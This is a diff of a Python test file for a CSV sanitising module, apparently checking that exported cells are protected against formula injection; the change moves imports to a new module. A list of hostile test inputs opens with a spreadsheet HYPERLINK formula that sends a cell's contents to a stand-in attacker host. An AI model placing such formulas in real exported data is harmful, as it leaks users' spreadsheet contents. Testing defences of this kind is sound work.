@@ -8,7 +8,8 @@ import pandas as pd
 import pytest
 
 from analysis.export import export_frames, read_frames
-from analysis.safe_csv import restore_cell, restore_frame, safe_cell, safe_frame, writer
+from analysis.safe_csv import restore_cell, safe_cell, writer
+from analysis.safe_frames import restore_frame, safe_frame
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
